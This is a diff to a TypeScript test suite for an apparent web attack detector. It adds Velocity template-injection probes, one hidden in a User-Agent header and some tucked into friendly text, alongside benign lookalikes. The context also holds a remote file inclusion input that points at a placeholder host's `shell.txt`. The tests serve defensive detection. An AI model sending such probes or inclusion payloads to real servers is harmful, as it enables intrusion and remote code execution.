@@ -795,6 +795,18 @@ const NOT_RAZOR_PROBE: Case[] = [
   ["body:json", JSON.stringify({ tpl: "<p>@(Model.Price * Model.Count)</p>" })],
 ];
 
+// Velocity's `#set` assigning arithmetic on two numbers (velocity.ts), behind a User-Agent too: ssti.
+const VELOCITY_PROBE: Case[] = [
+  ["header:User-Agent", "#set($x=69*10)$x Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"],
+  ["body:json", JSON.stringify({ tpl: "Hello #{set}( $!{total} = 1337 + 1 )$total, have a nice weekend" })],
+  ["query", "email=" + encodeURIComponent("#set($a = 7 * 7)$a Thanks again for the quick response yesterday!")],
+];
+const NOT_VELOCITY_PROBE: Case[] = [
+  ["body:json", JSON.stringify({ tpl: "#set($total = $price * $count)$total" })],
+  ["body:json", JSON.stringify({ tpl: "#set($x = 5)$x" })],
+  ["query", "q=" + encodeURIComponent("reset(7*7) or #sets(1+1)")],
+];
+
 // Remote file inclusion (rfi.ts): a script's or a text file's URL ended by `?`: rce.
 const REMOTE_INCLUDE: Case[] = [
   ["query", "page=http://198.51.100.7/shell.txt?"],
@@ -989,6 +1001,7 @@ describeVerdicts("%s payload verdicts", () => core, [
   ["remote-include", "rce", REMOTE_INCLUDE, NOT_REMOTE_INCLUDE],
   ["globbed-path", "rce|traversal", GLOBBED_PATH, NOT_GLOBBED_PATH],
   ["razor-probe", "ssti", RAZOR_PROBE, NOT_RAZOR_PROBE],
+  ["velocity-probe", "ssti", VELOCITY_PROBE, NOT_VELOCITY_PROBE],
   ["bash-net-redirect", "rce", BASH_NET_REDIRECT, NOT_BASH_NET_REDIRECT],
   ["living-off-the-land", "rce", LIVING_OFF_THE_LAND, NOT_LIVING_OFF_THE_LAND],
   ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
